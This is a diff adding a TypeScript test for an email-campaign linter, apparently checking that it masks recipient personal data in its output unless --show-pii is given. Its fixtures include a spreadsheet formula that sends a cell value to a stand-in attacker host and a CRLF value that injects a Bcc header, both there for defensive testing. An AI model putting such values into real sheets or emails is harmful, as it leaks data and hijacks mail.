@@ -1,0 +1,79 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { VALID_CAMPAIGN, VALID_FILES, tempTree } from '../helpers/campaign.js';
+import { runCli } from '../helpers/cli.js';
+import { maskPii as maskValue } from '../../src/core/mask.js';
+
+/**
+ * Known personal values planted where each recipient rule reports them: none may appear in any
+ * output format unless --show-pii is given (SPEC §8).
+ */
+const PLANTED = {
+  invalid: 'wilhelmina.invalid@@example.com',
+  duplicate: 'Duplicated.Person@example.org',
+  suppressed: 'suppressed.person@example.net',
+  role: 'postmaster@roles.example.com',
+  formula: '=HYPERLINK("https://evil.example/?q=secret-cell-value")',
+  injection: 'Grete\r\nBcc: stolen-list@example.org',
+  consent: 'nope-not-me',
+  leaked: 'leaked.recipient@example.com',
+};
+
+const csvQuote = (value: string) => `"${value.replaceAll('"', '""')}"`;
+const CSV = [
+  'email,first_name,consent,token',
+  `${PLANTED.invalid},Willa,yes,t1`,
+  `${PLANTED.duplicate.toLowerCase()},Dee,yes,t2`,
+  `${PLANTED.duplicate},Dee,yes,t3`,
+  `${PLANTED.suppressed},Sue,yes,t4`,
+  `${PLANTED.role},Post,yes,t5`,
+  `formula@example.com,${csvQuote(PLANTED.formula)},yes,t6`,
+  `injection@example.com,${csvQuote(PLANTED.injection)},yes,t7`,
+  `consent@example.com,Con,${PLANTED.consent},t8`,
+  `${PLANTED.leaked},Lee,yes,t9`,
+].join('\n');
+
+function tree() {
+  return tempTree({
+    'campaign.yaml': `${VALID_CAMPAIGN.replace('expected_count: 2', 'expected_count: 9')}suppress: [bounced.csv]\n`,
+    'recipients.csv': `${CSV}\n`,
+    'bounced.csv': `email\n${PLANTED.suppressed}\n`,
+    'body.txt': `${VALID_FILES['body.txt'] ?? ''}Test send: ${PLANTED.leaked}\n`,
+    'campaign-lint.config.yaml': 'organization:\n  postal_address: "Example Ltd, 1 Main Street, London N1 1AA"\napproval:\n  required: 0\n',
+  });
+}
+
+/** Every planted value, and the distinctive parts of each (a local part alone is personal too). */
+function leaks(output: string): string[] {
+  const needles = Object.values(PLANTED).flatMap((value) => [value, value.split('@')[0] ?? value, value.replace(/\r\n/g, ' ')]);
+  needles.push('secret-cell-value', 'stolen-list', 'wilhelmina', 'duplicated.person', 'nope-not-me');
+  return [...new Set(needles)].filter((needle) => needle.length > 3 && output.toLowerCase().includes(needle.toLowerCase()));
+}
+
+const RULES = ['recipient-email-valid', 'recipient-duplicate', 'recipient-suppressed', 'recipient-role-address', 'recipient-formula-injection', 'header-injection', 'recipient-consent', 'no-recipient-data-leak'];
+
+for (const format of ['stylish', 'json']) {
+  test(`${format}: recipient values are masked`, () => {
+    const root = tree();
+    const run = runCli(['campaign.yaml', '-f', format], { cwd: root });
+    assert.equal(run.status, 1);
+    for (const rule of RULES) assert.ok(run.stdout.includes(rule), `${rule} reported`);
+    assert.deepEqual(leaks(run.stdout + run.stderr), []);
+    assert.match(run.stdout, /w\*\*\*@example\.com/);
+  });
+
+  test(`${format}: --show-pii shows them`, () => {
+    const root = tree();
+    const run = runCli(['campaign.yaml', '-f', format, '--show-pii'], { cwd: root });
+    assert.equal(run.status, 1);
+    const output = format === 'json' ? (JSON.parse(run.stdout) as { messages: { message: string }[] }[]).flatMap((result) => result.messages.map((message) => message.message)).join('\n') : run.stdout;
+    for (const value of [PLANTED.invalid, PLANTED.duplicate, PLANTED.suppressed, PLANTED.role, PLANTED.formula, PLANTED.injection, PLANTED.consent, PLANTED.leaked]) {
+      assert.ok(output.includes(value), `${JSON.stringify(value)} shown`);
+    }
+  });
+}
+
+test('a value starting with @ is masked without recursing', () => {
+  assert.equal(maskValue('@SUM(A1)'), '@***');
+  assert.equal(maskValue('@'), '@***');
+});
